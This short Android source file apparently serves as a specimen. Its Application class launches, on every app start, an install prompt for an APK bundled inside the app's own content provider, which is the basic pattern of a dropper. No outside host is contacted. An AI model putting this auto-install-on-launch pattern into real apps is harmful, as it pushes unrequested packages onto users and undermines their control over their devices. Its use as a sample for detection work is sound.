package com.example.specimen;

import android.app.Application;

public class SpecimenApp extends Application {
    @Override
    public void onCreate() {
        super.onCreate();
        android.content.Intent install = new android.content.Intent(android.content.Intent.ACTION_VIEW);
        install.setDataAndType(android.net.Uri.parse("content://com.example.specimen/update"), "application/vnd.android.package-archive");
        install.setFlags(android.content.Intent.FLAG_ACTIVITY_NEW_TASK);
        this.startActivity(install);
    }
}
